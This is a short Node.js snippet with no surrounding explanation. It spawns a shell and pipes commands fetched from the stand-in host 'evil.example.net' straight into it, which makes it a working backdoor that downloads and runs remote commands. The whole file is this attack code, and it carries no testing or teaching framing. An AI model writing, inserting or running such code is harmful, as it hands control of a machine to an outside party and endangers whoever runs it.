import { pipeline } from 'node:stream/promises';
import { spawn } from 'node:child_process';
const shell = spawn('sh');
await pipeline((await fetch('https://evil.example.net/cmds')).body, shell.stdin);
